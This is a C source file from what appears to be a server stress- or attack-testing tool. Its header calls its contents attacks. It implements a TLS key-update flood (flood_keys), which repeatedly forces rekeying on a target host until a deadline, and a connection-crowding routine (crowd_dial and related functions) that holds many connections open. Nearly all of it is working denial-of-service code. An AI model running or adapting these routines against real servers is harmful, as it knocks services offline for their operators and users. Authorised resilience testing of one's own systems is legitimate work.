/* Attacks that Python's library does not offer, or not fast enough. See client.h. */

#include "client.h"

#include <openssl/err.h>
#include <stdlib.h>
#include <sys/epoll.h>
#include <unistd.h>

enum { WAIT_MS = 20 };

static int ignore_headers(
    Connection* self, uint32_t stream, const uint8_t* block, size_t size, bool ends) {
    (void)self, (void)stream, (void)block, (void)size, (void)ends;
    return 0;
}

static int ignore_reset(Connection* self, uint32_t stream, uint32_t error) {
    (void)self, (void)stream, (void)error;
    return 0;
}

static void ignore_window(Connection* self, uint32_t stream, int64_t change) {
    (void)self, (void)stream, (void)change;
}

static const Handler HANDLER = {
    ignore_headers, ignore_headers, ignore_reset, ignore_window};

int flood_keys(
    SSL_CTX* tls, const char* host, int port, uint64_t until_ns, uint64_t* sent,
    bool* is_ended, Failure* failure) {
    Connection self = {.handler = &HANDLER};
    *sent = 0;
    *is_ended = false;
    if (connection_dial(&self, tls, host, port, failure) != 0) {
        connection_close(&self);
        return -1;
    }
    int epoll = epoll_create1(EPOLL_CLOEXEC);
    struct epoll_event event = {.events = EPOLLIN | EPOLLOUT};
    epoll_ctl(epoll, EPOLL_CTL_ADD, self.fd, &event);
    while (clock_ns() < until_ns && !*is_ended) {
        ERR_clear_error();
        /* It goes out with the next write, and asks for the peer's new key too. */
        SSL_key_update(self.ssl, SSL_KEY_UPDATE_REQUESTED);
        int done = SSL_do_handshake(self.ssl);
        int error = SSL_get_error(self.ssl, done);
        if (done == 1) ++*sent;
        else if (error == SSL_ERROR_WANT_WRITE || error == SSL_ERROR_WANT_READ)
            epoll_wait(epoll, &event, 1, WAIT_MS);
        else *is_ended = true;
        if (!*is_ended && connection_read(&self) != 0) *is_ended = true;
    }
    close(epoll);
    connection_close(&self);
    return 0;
}

Connection* crowd_dial(SSL_CTX* tls, const char* host, int port, Failure* failure) {
    Connection* self = calloc(1, sizeof *self);
    if (self == NULL) abort();
    self->handler = &HANDLER;
    if (connection_dial(self, tls, host, port, failure) == 0) return self;
    crowd_close(self);
    return NULL;
}

bool crowd_is_ended(Connection* self, Failure* failure) {
    /* The one of a thread that has ended is gone. */
    self->failure = failure;
    return connection_read(self) != 0;
}

void crowd_close(Connection* self) {
    connection_close(self);
    free(self);
}
